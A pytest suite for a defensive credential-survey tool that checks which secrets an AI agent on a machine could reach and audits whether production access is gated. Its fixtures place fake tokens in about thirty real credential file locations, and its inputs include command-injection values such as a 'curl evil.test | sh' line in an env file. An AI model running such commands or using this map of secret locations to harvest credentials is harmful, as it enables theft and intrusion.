"""What an agent on this machine could reach: real formats in a home made for it, never a value."""

from __future__ import annotations

import base64
import json
import os
import pathlib
import shutil
import subprocess
import sys
import time

import pytest

from guard.policy.config import Config, EnvironmentRule
from guard.survey.audit import Circumstances, audit
from guard.survey.certificates import not_after
from guard.survey.credentials import Survey
from guard.survey.identified import Credential, ended
from guard.survey.names import Ground
from guard.survey.places import SPOTS
from guard.survey.providers import PROVIDERS
from guard.survey.readers import READERS
from guard.world import World

CANARY = "cAnArY7"
"""A piece of every secret here."""


def secret(prefix: str, length: int, alphabet: str = "aB3dE5fG7h") -> str:
    """A token of a form, with the canary in it."""
    body = CANARY + alphabet * 20
    return prefix + body[: length - len(prefix)]


def jwt(**claims: object) -> str:
    def part(value: object) -> str:
        return base64.urlsafe_b64encode(json.dumps(value).encode()).decode().rstrip("=")

    return f"{part({'alg': 'HS256'})}.{part(claims)}.{CANARY}signature0000000"


LATER, BEFORE = int(time.time()) + 864_000, int(time.time()) - 864_000
GITHUB = secret("ghp_", 40)
FILES: dict[str, str] = {
    ".aws/credentials": f"[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = {CANARY}x\n"
    f"[acme-prod]\naws_access_key_id=ASIAQNZGKIQY56JQ7WML\naws_secret_access_key={CANARY}y\naws_session_token={CANARY}z\n",
    ".aws/sso/cache/ab.json": json.dumps({"accessToken": secret("aoa", 60), "expiresAt": "2020-01-01T00:00:00Z"}),
    ".config/gcloud/application_default_credentials.json": json.dumps(
        {"type": "authorized_user", "refresh_token": secret("1//", 60), "quota_project_id": "acme-staging"}
    ),
    ".config/gh/hosts.yml": f"github.com:\n    user: u\n    oauth_token: {secret('gho_', 40)}\n    git_protocol: https\n",
    ".netrc": f"machine api.heroku.com\n  login u@acme.com\n  password {secret('HRKU-', 41)}\n",
    ".git-credentials": f"https://u:{GITHUB}@github.com\n",
    ".npmrc": f"registry=https://npm.acme.com/\n//npm.acme.com/:_authToken={secret('npm_', 40)}\n",
    ".pypirc": f"[pypi]\nusername = __token__\npassword = {secret('pypi-', 80)}\n",
    ".cargo/credentials.toml": f'[registry]\ntoken = "{secret("cio", 35)}"\n',
    ".docker/config.json": json.dumps(
        {"auths": {"registry.acme.com": {"auth": base64.b64encode(f"u:{CANARY}pw".encode()).decode()}},
         "credHelpers": {"gcr.io": "gcloud"}}
    ),
    ".pgpass": f"prod-db.acme.com:5432:app:root:{CANARY}pw\nlocalhost:*:*:me:{CANARY}pw2\n",
    ".my.cnf": f"[client]\nhost=db.staging.acme.com\npassword={CANARY}my\n",
    ".railway/config.json": json.dumps({"user": {"token": secret("rw_", 40)}, "projects": {}}),
    ".fly/config.yml": f"access_token: {secret('fm2_', 80)}\nauto_update: true\n",
    ".supabase/access-token": secret("sbp_", 44, "0123456789abcdef"),
    ".config/hcloud/cli.toml": f'active_context = "prod"\n[[contexts]]\nname = "prod"\ntoken = "{secret("h", 64)}"\n',
    ".config/doctl/config.yaml": f"access-token: {secret('dop_v1_', 71)}\ncontext: default\n",
    ".config/stripe/config.toml": f'[default]\nlive_mode_api_key = "{secret("sk_live_", 40)}"\n'
    f'test_mode_api_key = "{secret("sk_test_", 40)}"\n',
    ".terraform.d/credentials.tfrc.json": json.dumps({"credentials": {"app.terraform.io": {"token": secret("x.atlasv1.", 90)}}}),
    ".vault-token": secret("hvs.", 95),
    ".databrickscfg": f"[prod]\nhost = https://acme.cloud.databricks.com\ntoken = {secret('dapi', 36)}\n",
    ".m2/settings.xml": f"<settings><servers><server><id>releases</id><password>{CANARY}mvn</password></server></servers></settings>",
    ".claude/.credentials.json": json.dumps({"claudeAiOauth": {"accessToken": secret("sk-ant-", 90), "expiresAt": LATER * 1000}}),
    ".bash_history": f"ls\nexport GH_TOKEN={secret('ghp_', 40, 'zYxWv54321')}\n",
    ".kube/config": "apiVersion: v1\nkind: Config\ncurrent-context: prod\ncontexts:\n- context:\n    cluster: c\n"
    "    user: u\n  name: prod\n- context:\n    cluster: c\n    user: e\n  name: eks\nclusters:\n- cluster:\n"
    f"    server: https://k8s.acme.com\n  name: c\nusers:\n- name: u\n  user:\n    token: {jwt(exp=BEFORE, role='admin')}\n"
    "- name: e\n  user:\n    exec:\n      command: aws\n      args: [eks, get-token]\n",
    "app/.env.production": f"DATABASE_URL=postgres://app:{CANARY}pg@db7.acme.com/app\nSTRIPE_KEY=$STRIPE\nPORT=3000\n",
    "app/.env": f"RAILWAY_TOKEN=7f3e1c22-9a41-4c55-8b1d-0c3f5d1e2a77\nCALLED=$(touch /tmp/never)\nKEY_FILE=/etc/{CANARY}\n",
    "app/.env.example": "STRIPE_KEY=sk_live_replace_me_with_your_own_key\n",
    "app/scripts/domains.md": f"# Domains\nAdd one with token {GITHUB}\n",
    "app/src/main.ts": "const url = process.env.DATABASE_URL\n",
    "app/node_modules/x/index.js": f"const t = '{secret('ghp_', 40, 'node54321x')}'\n",
    "app/terraform.tfstate": json.dumps({"resources": [{"password": secret("sk_live_", 36, "tfstate123")}]}),
    "app/service-account.json": json.dumps(
        {"type": "service_account", "project_id": "acme-prod", "client_email": "ci@acme-prod.iam.gserviceaccount.com",
         "private_key": f"-----BEGIN PRIVATE KEY-----\n{CANARY}\n-----END PRIVATE KEY-----\n"}
    ),
}  # fmt: skip
FILES["app/.env"] += f"SUPABASE_KEY={jwt(role='service_role', iss='supabase', ref='abcd', exp=LATER)}\n"


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> pathlib.Path:
    home = tmp_path_factory.mktemp("home")
    for name, text in FILES.items():
        path = home / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        path.chmod(0o600)
    (home / ".env-link").symlink_to(home / "app/.env")
    return home


def ground(home: pathlib.Path, **env: str) -> Ground:
    return Ground(str(home), str(home / "app"), env, World(str(home), looks=1_000_000))


@pytest.fixture(scope="module")
def found(home: pathlib.Path) -> dict[str, Credential]:
    state = home.parent / "state"
    state.mkdir(exist_ok=True)
    survey = Survey(ground(home), Config(), str(state))
    listed = [one for one in survey.everything() if not one.path.startswith(("/etc", "/var"))]
    assert not [one for one in survey.unread if not one.startswith(("/etc", "/var"))]
    return {one.where: one for one in listed}


EXPECTED = [
    # where, kind begins, scope has, lifetime begins, environment, provider
    ("~/.aws/credentials ([acme-prod])", "AWS access key (temporary)", "account 029608264753", "hours", "E4", "aws"),
    ("~/.aws/sso/cache/ab.json (accessToken)", "credential for AWS", "", "until 2020-01-01 00:00", None, "aws"),
    ("~/.config/gcloud/application_default_credentials.json (a person's login)", "credential for Google", "acme-staging",
     "until it is revoked", "E3", "gcp"),
    ("~/.config/gh/hosts.yml (github.com.oauth_token)", "GitHub OAuth token", "its app", "", None, "github"),
    ("~/.netrc (api.heroku.com)", "Heroku API key", "the account", "", None, "heroku"),
    ("~/.git-credentials (github.com)", "GitHub token (classic)", "every repository", "", None, "github"),
    ("~/.npmrc (npm.acme.com)", "npm token", "packages", "", None, "npm"),
    ("~/.pypirc ([pypi])", "PyPI token", "packages", "", None, "pypi"),
    ("~/.cargo/credentials.toml (registry.token)", "credential for a package registry", "", "", None, "registry"),
    ("~/.docker/config.json (registry.acme.com)", "credential for a container", "", "", None, "docker"),
    ("~/.docker/config.json (gcr.io)", "login of a container registry", "", "", None, "docker"),
    ("~/.pgpass (prod-db.acme.com/app)", "database password", "root on prod-db.acme.com/app", "until somebody", "E4",
     "database"),
    ("~/.pgpass (localhost/*)", "database password", "me on localhost", "until somebody", "E1", "database"),
    ("~/.my.cnf ([client])", "database password", "", "", "E3", "database"),
    ("~/.railway/config.json (user.token)", "credential for Railway", "every project", "until somebody revokes", None,
     "railway"),
    ("~/.fly/config.yml (access_token)", "Fly token", "organisation", "", None, "fly"),
    ("~/.supabase/access-token", "Supabase account token", "every project", "", None, "supabase"),
    ("~/.config/hcloud/cli.toml (contexts.token)", "credential for Hetzner", "one project", "", None, "hetzner"),
    ("~/.config/doctl/config.yaml (access-token)", "DigitalOcean token", "the account", "", None, "digitalocean"),
    ("~/.config/stripe/config.toml (default.live_mode_api_key)", "Stripe secret key", "the account", "", "E4", "stripe"),
    ("~/.config/stripe/config.toml (default.test_mode_api_key)", "Stripe secret key", "", "", "E1", "stripe"),
    ("~/.terraform.d/credentials.tfrc.json (credentials.app.terraform.io.token)", "credential for Terraform Cloud", "",
     "", None, "terraform"),
    ("~/.vault-token", "Vault token", "policies", "", None, "vault"),
    ("~/.databrickscfg ([prod])", "Databricks token", "", "", "E4", "databricks"),
    ("~/.m2/settings.xml (releases)", "credential for a package registry", "", "", None, "registry"),
    ("~/.claude/.credentials.json (claudeAiOauth.accessToken)", "Anthropic API key", "", "until 2", None, "agent"),
    ("~/.bash_history", "GitHub token (classic)", "every repository", "", None, "github"),
    ("~/.kube/config (prod)", "JSON web token", "what user u may do in c", "until 2", "E4", "kubernetes"),
    ("~/.kube/config (eks)", "login of Kubernetes", "what user e may do in c", "asked anew", None, "kubernetes"),
    (".env.production (DATABASE_URL)", "database password", "app on db7.acme.com/app", "", "E4", "database"),
    (".env (RAILWAY_TOKEN)", "Railway project token", "one environment", "until somebody revokes", None, "railway"),
    (".env (SUPABASE_KEY)", "Supabase key", "service_role", "until 2", None, "supabase"),
    ("scripts/domains.md", "GitHub token (classic)", "every repository", "", None, "github"),
    ("terraform.tfstate", "Stripe secret key", "", "", "E4", "state"),
    ("service-account.json (ci@acme-prod.iam.gserviceaccount.com)", "credential for Google", "acme-prod",
     "until somebody deletes", "E4", "gcp"),
]  # fmt: skip


@pytest.mark.parametrize(("where", "kind", "scope", "lifetime", "environment", "provider"), EXPECTED)
def test_each_is_found_with_what_it_says_of_itself(
    found, where, kind, scope, lifetime, environment, provider
):
    one = found[where]
    assert one.kind.startswith(kind)
    assert scope in one.scope
    assert one.lifetime.startswith(lifetime)
    assert one.environment == environment, one.why
    assert one.provider.id == provider


def test_only_what_is_a_secret_is_found(found):
    assert {one.where.split(" (")[0] for one in found.values()} <= {
        where.split(" (")[0] for where, *_ in EXPECTED
    }
    for quiet in (".env.example", "node_modules", "PORT", "KEY_FILE", "STRIPE_KEY", "CALLED"):
        assert not any(quiet in where for where in found)


def test_the_same_secret_in_two_places_is_told_to_be_the_same(found):
    assert (
        found["scripts/domains.md"].fingerprint == found["~/.git-credentials (github.com)"].fingerprint != ""
    )
    assert found["~/.vault-token"].fingerprint != found["scripts/domains.md"].fingerprint


def test_no_value_is_in_what_is_told(found):
    assert CANARY not in repr(found)


def test_the_map_of_the_owner_decides_before_words(home):
    rules = (EnvironmentRule("account", "029608264753", "E3"), EnvironmentRule("host", "db7.acme.com", "E1"))
    survey = Survey(ground(home), Config(environments=rules), "")
    told = {one.where: one.environment for one in survey.everything()}
    assert told["~/.aws/credentials ([acme-prod])"] == "E3"
    assert told[".env.production (DATABASE_URL)"] == "E1"


def test_variables_and_agents_are_within_reach_too(home, tmp_path):
    socket = tmp_path / "agent.sock"
    socket.write_text("")
    survey = Survey(
        ground(home, STRIPE_API_KEY=secret("sk_live_", 40), EDITOR="vim", SSH_AUTH_SOCK=str(socket)),
        Config(),
        "",
    )
    told = {one.where: one for one in survey.everything()}
    assert told["variable STRIPE_API_KEY"].environment == "E4"
    assert told["variable SSH_AUTH_SOCK"].provider.id == "ssh"
    assert not any("EDITOR" in where for where in told)


@pytest.mark.skipif(not shutil.which("ssh-keygen"), reason="needs ssh-keygen (openssh-client)")
@pytest.mark.parametrize(
    ("passphrase", "note"), [("", "not locked"), ("correct horse", "locked with a passphrase")]
)
def test_whether_a_key_is_locked_is_told(tmp_path, passphrase, note):
    (tmp_path / ".ssh").mkdir()
    (tmp_path / "app").mkdir()
    path = tmp_path / ".ssh/id_ed25519"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", passphrase, "-f", str(path)], check=True)
    keys = [one for one in Survey(ground(tmp_path), Config(), "").everything() if one.path == str(path)]
    assert [(one.kind, one.note) for one in keys] == [("SSH private key", note)]
    assert not any(one.path.endswith(".pub") for one in keys)


@pytest.mark.skipif(not shutil.which("openssl"), reason="needs openssl")
@pytest.mark.parametrize("days", [30, 20_000])
def test_the_end_of_a_certificate_is_the_one_that_openssl_reads(tmp_path, days):
    made = str(tmp_path / "c.pem")
    subprocess.run(
        ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", str(tmp_path / "k"), "-out", made,
         "-subj", "/CN=acme", "-days", str(days)], check=True, capture_output=True,
    )  # fmt: skip
    said = subprocess.run(
        ["openssl", "x509", "-enddate", "-noout", "-dateopt", "iso_8601", "-in", made], check=True, capture_output=True,
        text=True,
    ).stdout  # fmt: skip
    text = pathlib.Path(made).read_text()
    assert not_after(text)[6:22] == said.partition("=")[2][:16]
    assert not_after(base64.b64encode(text.encode()).decode()) == not_after(text)


@pytest.mark.parametrize(
    "data",
    ["", "x", "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----", "MIIB" * 40, "-----BEGIN"],
)
def test_a_certificate_that_is_none_says_nothing(data):
    assert not_after(data) == ""


# ------------------------------------------------------------------------------------- tables


def test_every_place_has_a_reader_and_a_provider():
    assert len(SPOTS) >= 80
    assert {spot.provider for spot in SPOTS} <= set(PROVIDERS)
    assert {spot.reader for spot in SPOTS} <= {*READERS, "file", "folder", "socket"}
    assert len({spot.path for spot in SPOTS}) == len(SPOTS)


def test_every_place_is_known_to_hold_secrets():
    from guard.knowledge.secrets import secret_directory, secret_file

    quiet = {"~/.aws/config", "~/.kube/*.yaml", "~/.kube/*.conf", "/var/run/docker.sock", "~/.bunfig.toml"}
    unknown = [
        spot.path for spot in SPOTS
        if not secret_file(spot.path.replace("*", "x"), "/h") and not secret_directory(spot.path, "/h")
    ]  # fmt: skip
    assert set(unknown) <= quiet


def test_every_provider_answers_every_question():
    for provider in PROVIDERS.values():
        word, colon, why = provider.backups.partition(":")
        assert provider.act and word in ("yes", "no", "unknown") and colon and why.strip(), provider.id


@pytest.mark.parametrize("provider", [p for p in PROVIDERS.values() if p.probe], ids=lambda p: p.id)
def test_the_worst_act_of_a_provider_is_not_let_pass(provider, tmp_path):
    """Where guard would let it pass, the audit says so; there should be none."""
    found = (Credential("x", "y", "", provider=provider, environment="E4", why="said so"),)
    around = Circumstances({"HOME": str(tmp_path)}, str(tmp_path), (), ("claude-code",))
    (one,) = audit(found, around, {})
    assert one.of("gap").answer == "yes", one.of("gap").detail


# -------------------------------------------------------------------------------------- audit


def judged(credential: Credential, **around: object):
    base = {"env": {"HOME": "/nonexistent"}, "folder": "/", "guarded": ("claude-code",), **around}
    (one,) = audit((credential,), Circumstances(**base), {"TOKEN": ("src/main.ts",)})
    return one


PRODUCTION = Credential(
    "Railway project token", ".env (TOKEN)", "/p/.env", provider=PROVIDERS["railway"], environment="E4", why="said so",
    variable="TOKEN", modified=time.time() - 400 * 86400, fingerprint="f",
)  # fmt: skip


def test_the_five_questions_are_answered():
    one = judged(PRODUCTION, task="staging")
    assert one.of("worst").detail == "it can delete a volume with its backups; guard refuses it"
    assert (
        one.of("production").answer == "yes"
        and "the task is said to be in staging" in one.of("production").detail
    )
    assert one.of("rotation").answer == "yes" and "TOKEN is read in src/main.ts" in one.of("rotation").detail
    assert "400 days, long ago" in one.of("rotation").detail
    assert one.of("backups").answer == "yes"
    assert one.of("gap").answer == "yes"
    assert one.level == "warning"


@pytest.mark.parametrize(
    ("around", "level", "gap"),
    [
        ({"guarded": (), "open_agents": ("codex",)}, "error", "no"),
        ({"open_agents": ("codex",)}, "error", "no"),
        ({"guarded": (), "open_agents": ()}, "error", "unknown"),
        ({}, "warning", "yes"),
    ],
)
def test_production_with_nobody_in_between_is_an_error(around, level, gap):
    one = judged(PRODUCTION, **around)
    assert (one.level, one.of("gap").answer) == (level, gap)


def test_what_has_ended_or_reaches_no_production_is_none():
    from guard.frozen import replace

    open_agents = {"guarded": (), "open_agents": ("codex",)}
    assert judged(replace(PRODUCTION, lifetime="until 2020-01-01 00:00 UTC"), **open_agents).level == "note"
    assert ended(replace(PRODUCTION, lifetime="until 2020-01-01 00:00 UTC"))
    assert not ended(replace(PRODUCTION, lifetime="until 2999-01-01 00:00 UTC"))
    assert judged(replace(PRODUCTION, environment="E1"), **open_agents).level == "note"
    unknown = judged(replace(PRODUCTION, environment=None, why=""), **open_agents)
    assert unknown.level == "warning" and unknown.of("production").answer == "unknown"


# ---------------------------------------------------------------------------------- the command


def run(home: pathlib.Path, *words: str, **env: str) -> subprocess.CompletedProcess[str]:
    base = {"HOME": str(home), "PATH": "/usr/bin:/bin", "XDG_STATE_HOME": str(home.parent / "state")}
    return subprocess.run(
        [sys.executable, "-m", "guard", "creds", *words], cwd=home / "app", env={**base, **env}, capture_output=True,
        text=True, check=False,
    )  # fmt: skip


def test_the_list_is_text_and_json(home):
    text = run(home, "list")
    assert text.returncode == 0 and "Stripe secret key" in text.stdout and not text.stderr
    document = json.loads(run(home, "list", "--format", "json").stdout)
    assert {one["kind"] for one in document["credentials"]} >= {"Stripe secret key", "Railway project token"}
    assert CANARY not in text.stdout + json.dumps(document)


def test_the_audit_fails_where_production_is_reached_unasked(home):
    done = run(home, "audit", "--format", "json")
    assert done.returncode == 1
    listed = json.loads(done.stdout)["credentials"]
    assert listed[0]["level"] == "error"
    assert set(listed[0]["answers"]) == {"worst", "production", "rotation", "backups", "gap"}
    database = next(one for one in listed if one["where"] == ".env.production (DATABASE_URL)")
    assert "DATABASE_URL is read in src/main.ts" in database["answers"]["rotation"]["detail"]
    assert CANARY not in done.stdout


def test_the_audit_passes_where_everything_is_asked_about(home, tmp_path):
    (tmp_path / "app").mkdir()
    (tmp_path / ".claude").mkdir()
    (tmp_path / "app/.env").write_text(f"STRIPE_API_KEY={secret('sk_live_', 40)}\n")
    assert run(tmp_path, "audit").returncode == 1
    guard = [sys.executable, "-m", "guard", "install", "claude-code", "--yes"]
    env = {"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"}
    subprocess.run(guard, cwd=tmp_path / "app", env=env, check=True, capture_output=True)
    done = run(tmp_path, "audit")
    assert done.returncode == 0, done.stdout
    assert "guard asks a person first" in done.stdout or "guard refuses it" in done.stdout


def test_sarif_has_a_result_each(home, tmp_path):
    path = tmp_path / "creds.sarif"
    assert run(home, "audit", "--format", "sarif", "-o", str(path)).returncode == 1
    document = json.loads(path.read_text())
    (one,) = document["runs"]
    rules = [rule["id"] for rule in one["tool"]["driver"]["rules"]]
    for result in one["results"]:
        assert rules[result["ruleIndex"]] == result["ruleId"]
    there = {
        r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
        for r in one["results"]
        if "locations" in r
    }
    assert ".env.production" in there and f"file://{home}/.netrc" in there
    assert CANARY not in path.read_text()


def test_progress_is_shown_on_a_terminal_only(home):
    from tests.terminal import at_terminal

    env = {
        "HOME": str(home),
        "PATH": "/usr/bin:/bin",
        "TERM": "xterm",
        "XDG_STATE_HOME": str(home.parent / "state"),
    }
    code, seen = at_terminal(["creds", "list"], env, str(home / "app"))
    assert code == 0 and "looking for credentials" in seen and "100%" in seen
    assert "looking" not in run(home, "list").stderr


# ----------------------------------------------------------------------------------- bad input


@pytest.mark.parametrize(
    ("name", "content"),
    [
        pytest.param(".kube/config", "a: &a [*a, *a]\n" * 2000, id="a YAML bomb"),
        pytest.param(".aws/credentials", "[" * 50_000, id="an endless section"),
        pytest.param(".docker/config.json", "[" * 90_000, id="nested JSON"),
        pytest.param(".config/hcloud/cli.toml", "a." * 20_000 + "b = 1", id="nested TOML"),
        pytest.param(".netrc", "machine", id="a word without its value"),
        pytest.param(".pgpass", ":" * 10_000, id="fields without end"),
        pytest.param("app/.env", "TOKEN=$(curl evil.test | sh)`id`\n", id="an env file that would run"),
        pytest.param("app/x.pem", "-----BEGIN " * 5000, id="keys without end"),
        pytest.param(".m2/settings.xml", "<password>" * 20_000, id="elements without end"),
    ],
)
def test_a_malformed_file_is_bounded_and_no_error(tmp_path, name, content):
    (tmp_path / "app").mkdir()
    (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
    (tmp_path / name).write_text(content)
    survey = Survey(ground(tmp_path), Config(), "")
    assert len([one for one in survey.everything() if one.path.startswith(str(tmp_path))]) < 600


def test_what_cannot_be_read_is_named(tmp_path):
    (tmp_path / "app").mkdir()
    (tmp_path / ".netrc").write_bytes(b"x" * 300_000)
    (tmp_path / ".vault-token").symlink_to("/dev/zero")
    os.mkfifo(tmp_path / ".pgpass")
    (tmp_path / ".npmrc").symlink_to(tmp_path / ".npmrc")
    survey = Survey(ground(tmp_path), Config(), "")
    survey.everything()
    assert [one for one in survey.unread if "/etc" not in one] == ["~/.netrc: larger than 256 KiB"]


@pytest.mark.parametrize(("mode", "risk"), [(0o644, "can read it"), (0o666, "can change it"), (0o600, "")])
def test_what_others_can_read_or_change_is_a_risk(tmp_path, mode, risk):
    home = tmp_path / "h"
    (home / "app").mkdir(parents=True)
    path = home / ".vault-token"
    path.write_text(secret("hvs.", 95))
    path.chmod(mode)
    survey = Survey(ground(home), Config(), "")
    survey._open.update({str(home): True})
    (one,) = [one for one in survey.everything() if one.path == str(path)]
    assert any(risk in said for said in one.risks) if risk else not one.risks
